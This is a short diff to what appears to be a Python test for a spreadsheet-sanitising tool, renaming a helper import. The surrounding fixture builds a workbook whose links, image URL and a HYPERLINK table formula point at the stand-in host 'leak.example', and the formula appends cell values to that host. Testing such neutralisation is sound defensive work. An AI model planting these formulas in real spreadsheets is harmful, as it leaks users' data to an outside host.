@@ -13,7 +13,7 @@ from district_reports.workbook.guard.guard import guard
 from district_reports.workbook.marking import inert as taking_out
 from district_reports.workbook.marking.marked import CannotMark, write_marked
 from guarded_files import rewritten
-from marked_book import DATA, _picture, answer, faults, finding, parts, rich
+from marked_book import DATA, answer, faults, finding, parts, picture, rich
 
 LEAK = "leak.example"
 URL = f"http://{LEAK}/?"
@@ -72,7 +72,7 @@ def leading_out(path: Path) -> Path:
         sheet.add_table(
             "K3:L5", {"columns": [{"header": "a"}, {"header": "b", "formula": f'=HYPERLINK("{URL}"&[@a])'}]}
         )
-        sheet.insert_image("N3", "p.png", {"image_data": _picture(), "url": f"{URL}image"})
+        sheet.insert_image("N3", "p.png", {"image_data": picture(), "url": f"{URL}image"})
         sheet.insert_textbox("N10", "点这里", {"url": f"{URL}box"})
         other = book.add_worksheet("在校人数")
         other.write_url("A1", f"{URL}other")
